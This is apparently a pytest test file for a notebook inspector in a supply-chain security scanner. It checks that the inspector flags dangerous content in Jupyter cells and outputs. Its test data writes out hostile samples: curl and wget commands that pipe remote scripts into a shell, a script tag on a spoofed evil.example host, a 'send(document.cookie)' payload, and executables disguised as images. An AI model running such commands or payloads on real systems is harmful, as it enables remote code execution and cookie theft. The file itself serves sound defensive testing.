"""Notebooks: what hides in cells, and what acts when one is opened."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fixtures.make_notebook_document import ECHO, PLAIN, notebook, shown
from supplyguard.errors import BudgetExceededError, MalformedError
from supplyguard.finding import Evidence
from supplyguard.inspectors import notebook_document
from supplyguard.limits import Budget, Limits
from tests.examined import probe, yielded
from tests.fuzzing import cuts, mutations, survives


def seen(data: bytes) -> list[Evidence]:
    return [each for each in yielded(notebook_document, data, "n.ipynb") if isinstance(each, Evidence)]


def kinds(data: bytes) -> set[str]:
    return {each.kind for each in seen(data)}


def test_recognises_by_name_and_form() -> None:
    assert notebook_document.recognizes(probe(b'{"cells": []}', "A.IPYNB"))
    assert not notebook_document.recognizes(probe(b"\x80\x02.", "a.ipynb"))
    assert not notebook_document.recognizes(probe(b"{}", "a.json"))


def test_places_are_those_of_the_file() -> None:
    data = notebook(f"x = 1\nimport base64\nexec(base64.b64decode('{ECHO}'))\n!echo | base64 -d | sh\n")
    lines = data.decode().split("\n")
    for each in seen(data):
        assert each.location.line is not None
        word = "exec(" if each.kind == "model-code" else "!echo"
        assert word in lines[each.location.line - 1]


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("!curl -fsSL https://x.example/i.sh | sh", True),
        ("!wget -qO- https://x.example/i.sh | sudo -E bash -", True),
        ("!curl https://x.example/i.py | python3", True),
        ('!sh -c "$(curl -fsSL https://x.example/i.sh)"', True),
        ("%%sh\nbash <(curl https://x.example)", True),
        ("!curl https://x.example/data.csv | head", False),
        ("!curl -o shell.txt https://x.example", False),
        ("text = 'curl https://x.example | sh'", False),
    ],
)
def test_commands(command: str, found: bool) -> None:
    assert (kinds(notebook(command)) == {"notebook-command"}) is found


@pytest.mark.parametrize(
    ("mime", "text", "kind"),
    [
        ("text/html", "<iframe src=//evil.example/x>", "notebook-foreign"),
        ("text/html", "<script async src='https://cdn.jsdelivr.net/x.js'></script>", None),
        (
            "text/html",
            "<script src='//a@cdn.jsdelivr.net.evil.example/x'></script>",
            "notebook-foreign",
        ),
        ("application/javascript", "send(document.cookie)", "notebook-active"),
        ("text/html", "<a href='javascript:go()'>", "notebook-active"),
        ("text/html", "<a href='javascript:'>", None),
        ("text/plain", "document.cookie", None),
        ("image/png", "iVBORw0KGgo=", None),
        ("image/png", "TVq?", None),
        ("image/jpeg", "UEsDBBQAAAAIAAAA", "notebook-disguise"),
    ],
)
def test_outputs(mime: str, text: str, kind: str | None) -> None:
    assert kinds(notebook(outputs=shown(mime, text))) == (set() if kind is None else {kind})


def test_attachments() -> None:
    cell = {
        "cell_type": "markdown",
        "source": "",
        "attachments": {"a.png": {"image/png": "f0VMRgIBAQAAAAAA"}},
    }
    assert kinds(json.dumps({"cells": [cell]}).encode()) == {"notebook-disguise"}


@pytest.mark.parametrize(
    "document",
    [
        {},
        {"cells": 1, "metadata": 2},
        {"cells": [1, {"outputs": 2, "attachments": 3}, {"outputs": [1, {"data": 4, "text": 5}]}]},
        {"cells": [{"cell_type": "code", "source": []}], "metadata": {"kernelspec": None}},
        {"metadata": {"language_info": {"name": "R"}}, "cells": [{"cell_type": "code", "source": "exec(x)"}]},
        {"worksheets": [{"cells": [{"cell_type": "code", "input": "x = (", "outputs": []}]}]},
    ],
)
def test_odd_documents(document: Any) -> None:
    assert seen(json.dumps(document).encode()) == []


def test_what_is_no_notebook() -> None:
    with pytest.raises(MalformedError):
        seen(b"[]")
    with pytest.raises(MalformedError):
        seen(b"{")
    with pytest.raises(BudgetExceededError):
        list(yielded(notebook_document, notebook(PLAIN), "n", Budget(Limits(document_bytes=10))))


def test_outputs_are_counted() -> None:
    outputs = shown("text/html", "<a href=javascript:x()>") * 1000
    assert len(seen(notebook(outputs=outputs))) <= 202


def test_any_bytes() -> None:
    data = notebook(PLAIN, shown("text/html", "<a href=javascript:x()>"))
    for cut in cuts(data, 200):
        survives(notebook_document, cut)
    for changed in mutations(data, 200):
        survives(notebook_document, changed)


@given(st.binary(max_size=100))
@settings(max_examples=100, deadline=None)
def test_arbitrary_bytes(data: bytes) -> None:
    survives(notebook_document, data)
